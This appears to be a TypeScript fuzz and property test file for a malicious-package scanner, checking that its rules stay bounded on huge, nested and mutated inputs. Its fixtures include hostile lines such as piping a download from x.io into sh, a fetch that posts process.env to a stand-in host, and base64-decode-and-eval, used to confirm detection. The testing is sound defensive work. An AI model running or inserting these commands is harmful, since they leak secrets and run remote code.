/** No check throws, hangs or exceeds its work on any input: random, mutated, huge, nested, broken. */
import { readFileSync, readdirSync, statSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findingMessage, type Finding } from '../format/finding/finding.ts';
import { scan } from './scan.ts';
import { allRules } from './rules/all.ts';
import { deriveCapabilities } from './capabilities.ts';
import { effectsOf } from './shell/effects-of.ts';
import { testBuild } from './test-build.ts';
import { readRuleCases } from '../tests/read-rule-cases.ts';
import { runs, some } from '../tests/run/runs.ts';

const NAMES = [
  'a.js',
  'a.ts',
  'a.tsx',
  'a.cjs',
  'a.py',
  'setup.py',
  'a.sh',
  'package.json',
  'x.pth',
];

const NUMBERS = Array.from({ length: runs(40_000) }, (_, n) => n);

/** Real code to mutate: our own, and the cases of the rules. */
const SOURCES = [...ownSources(), ...caseSources()].filter((text) => text.length < 20_000);

function ownSources(): string[] {
  const folder = import.meta.dirname;
  return readdirSync(folder, { recursive: true, encoding: 'utf8' })
    .filter((p) => isSource(p) && statSync(join(folder, p)).isFile())
    .map((p) => readFileSync(join(folder, p), 'utf8'));
}

function caseSources(): string[] {
  return readRuleCases()
    .flatMap(({ files }) => files)
    .filter(({ path }) => isSource(path))
    .map(({ bytes }) => Buffer.from(bytes).toString());
}

function isSource(path: string): boolean {
  return /\.(?:ts|js|mjs|py|sh)$/.test(path);
}

/** Runs everything; a check that threw appears as a finding. */
function judged(files: Readonly<Record<string, string | Uint8Array>>): Finding[] {
  const build = testBuild(files);
  const found = scan(build, allRules);
  deriveCapabilities(build);
  expect(found.filter((f) => f.code === 'check-failed').map(findingMessage)).toEqual([]);
  return found;
}

function aboveInfo(found: readonly Finding[]): string[] {
  return found.filter(({ level }) => level !== 'info').map(({ code }) => code);
}

// Some of the inputs take seconds: the tests show that they end.
describe('checks', { timeout: 300_000 }, () => {
  it('return the same findings twice on random bytes', () => {
    const files = fc.dictionary(fc.constantFrom(...NAMES), fc.uint8Array({ maxLength: 300 }));
    fc.assert(
      fc.property(files, (f) => {
        expect(judged(f)).toEqual(judged(f));
      }),
      { numRuns: runs(60) },
    );
  });

  it('return on real code that was cut, doubled and mixed', () => {
    const piece = fc.tuple(fc.constantFrom(...SOURCES), fc.nat(), fc.nat(2_000));
    const text = fc
      .array(piece, { minLength: 1, maxLength: 4 })
      .map((all) =>
        all.map(([s, from, size]) => s.slice(from % s.length).slice(0, size)).join('\n'),
      );
    fc.assert(
      fc.property(fc.constantFrom(...NAMES), text, (name, content) => {
        expect(judged({ [name]: content })).toEqual(expect.any(Array));
      }),
      { numRuns: runs(150) },
    );
  });

  it.each([
    ['calls', 'a' + '.b().c(d)'.repeat(runs(20_000))],
    ['members', 'a' + '.b'.repeat(runs(50_000))],
    ['stores', `a${'.b'.repeat(runs(800))} = 1;`.repeat(runs(10))],
    ['strings', `const a = ${'"a" + '.repeat(runs(50_000))}"b"; eval(a)`],
    [
      'growing texts',
      `let s = 'ab'; ${'s = s + s; t = s.split(""); s = t.join(s);'.repeat(runs(500))} eval(s)`,
    ],
    [
      'functions that call each other',
      'function f(a) { return f(f(a)); } f(process.env);'.repeat(runs(500)),
    ],
    ['one long line', `${'var a=require("http"),b=process.env;'.repeat(runs(runs(100_000)))}`],
    [
      'objects in each other',
      `${'a = { a, b: a, ...a }; b = [...a, b];'.repeat(runs(2_000))} fetch('http://x.io', a)`,
    ],
    ['character codes', `eval(String.fromCharCode(${'99,'.repeat(runs(50_000))}))`],
  ])('are bounded on many %s', (_, text) => {
    expect(judged({ 'a.js': `fetch(process.env);${text}` })).toEqual(expect.any(Array));
    expect(judged({ 'a.py': `import os\n${text.slice(0, runs(200_000))}` })).toEqual(
      expect.any(Array),
    );
  });

  it.each([
    ['.npmrc', `registry${' '.repeat(runs(1_000_000))}x`],
    ['a.go', `func init() {\n${'\tinit(http.Get(x))\n'.repeat(100)}\n}\n`.repeat(runs(500))],
    ['.gitconfig', '\n'.repeat(runs(800_000))],
    ['.github/workflows/a.yml', `workflow_run${' '.repeat(runs(800_000))}x`],
    ['a.sh', `curl -o a https://x.io/c\nchmod ${'0'.repeat(runs(800_000))} a`],
    ['b.sh', 'curl ${{secrets.A}} http://x.io|'.repeat(runs(25_000))],
    ['c.sh', 'curl https://x.io/i|sh\n'.repeat(runs(35_000))],
    ['a.py', `import a${'.a'.repeat(runs(400_000))}`],
    ['b.py', 'a '.repeat(runs(400_000))],
    ['b.js', '/**/'.repeat(runs(200_000))],
    ['package.json', `{"scripts":{${NUMBERS.map((n) => `"a${n}":"curl x.io|sh"`).join()}}}`],
    ['b.md', '[a](b "c")\n|a|b|\n'.repeat(runs(50_000))],
    ['a.js', `const x='${'a?(b)'.repeat(3_900)}';${'fetch(x);exec(x);'.repeat(runs(40_000))}`],
  ])('are bounded on %s', (path, text) => {
    expect(judged({ [path]: text })).toEqual(expect.any(Array));
  });

  it('are bounded on deep nesting', () => {
    const depth = runs(runs(100_000));
    for (const [open, close] of [
      ['[', ']'],
      ['(', ')'],
      ['{a:', '}'],
      ['a(', ')'],
      ['!', ''],
      ['a=>', ''],
    ]) {
      const text = `x = ${open!.repeat(depth)}1${close!.repeat(depth)}`;
      expect(judged({ 'a.js': text })).toEqual(expect.any(Array));
      judged({ 'a.py': text });
    }
  });

  it('read code of 1 MB, and leave larger code', () => {
    const code = (size: number): string =>
      `/*${'var a=1;'.repeat(size / 8)}*/fetch('https://x.io', process.env)`;
    expect(aboveInfo(judged({ 'a.js': code(999_000) }))).not.toContain('source-unread');
    expect(aboveInfo(judged({ 'a.js': code(1_000_000) }))).toContain('source-unread');
  });

  it('are bounded on thousands of files', () => {
    const files = Object.fromEntries(
      Array.from({ length: runs(10_000) }, (_, n) => [
        `src/f${n}.js`,
        `import './f${n + 1}.js';\nfetch(process.env.A);`,
      ]),
    );
    expect(judged(files)).toEqual(expect.any(Array));
  });

  it('name every piece of evidence on one line', () => {
    const text = "require('child_process').exec('curl x\\n\\u202e | sh ' + y);\n".repeat(3);
    for (const f of judged({ 'a.js': text })) expect(findingMessage(f)).not.toMatch(/[\n\u202e]/);
  });
});

describe('effectsOf()', { timeout: 300_000 }, () => {
  it('takes no time that grows faster than the command', () => {
    const words = [
      'curl ',
      'wget -O ',
      '| ',
      'sh ',
      '$(',
      'base64 -d ',
      'nc -',
      'rm -',
      'iwr ',
      'a',
      ' ',
      '"',
      'env ',
    ];
    const deeds = some(words).flatMap((word) =>
      words.flatMap((other) => effectsOf((word + other).repeat(runs(runs(5_000))))),
    );
    expect(deeds).toEqual(expect.any(Array));
  });
});

describe('a packed bundle', { timeout: 300_000 }, () => {
  const HARMFUL: Readonly<Record<string, string>> = {
    sends: 'fetch("https://x.io/a",{method:"POST",body:JSON.stringify(process.env)});',
    downloads: 'require("child_process").exec("curl -s https://x.io/i.sh|sh");',
    decodes: 'eval(Buffer.from(require("fs").readFileSync("a.bin","utf8"),"base64").toString());',
  };

  /** Modules of one line, some of which have to do with the system, with `code` in the one at `share` of them. */
  function bundle(size: number, share: number, code: string): string {
    const modules: string[] = [];
    const count = Math.ceil(size / 400);
    for (let n = 0; n < count; n += 1) {
      const body = `var r=i(${n}),o=e.length;function a(e){return e.b?a(e.b):{c:[e,"${n}"],d:/[/"]/.test(e)}}`;
      const more =
        n % 99 === 0 ? 'process.env.DEBUG&&console.log(e);' : 'for(;o--;)t[o]=r(e[o],`${o}`);';
      const own = n === Math.floor(share * (count - 1)) ? code : '';
      modules.push(`${n}:(e,t,i)=>{"use strict";${body}${more.repeat(6)}${own}t.exports=a}`);
    }
    return `(()=>{var e={${modules.join(',')}},t={};function i(n){return t[n]||e[n](t[n]={},t,i)}i(0)})();`;
  }

  it('of 900 kB is read to its end, without a remark about its size, and shows what is in it anywhere', () => {
    const share = fc.double({ min: 0, max: 1, noNaN: true });
    fc.assert(
      fc.property(share, fc.constantFrom(...Object.keys(HARMFUL)), (at, what) => {
        const found = judged({ 'a.js': bundle(900_000, at, HARMFUL[what]!) });
        expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
        expect(aboveInfo(found)).toContainEqual(
          expect.stringMatching(/^(?:data-exfiltration|remote-code|shell-fetch|decode-execute)/),
        );
      }),
      { numRuns: runs(4) },
    );
  });
});
